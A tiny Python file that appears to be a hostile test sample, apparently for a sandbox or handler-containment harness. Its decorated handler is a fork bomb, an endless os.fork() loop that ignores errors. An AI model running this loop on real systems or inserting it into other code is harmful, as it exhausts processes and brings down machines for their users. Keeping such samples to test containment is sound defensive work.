"""Processes without end, each busy."""

import os

from attempts import hostile


@hostile
def handler(event, attempts):
    while True:
        try:
            os.fork()
        except OSError:
            pass
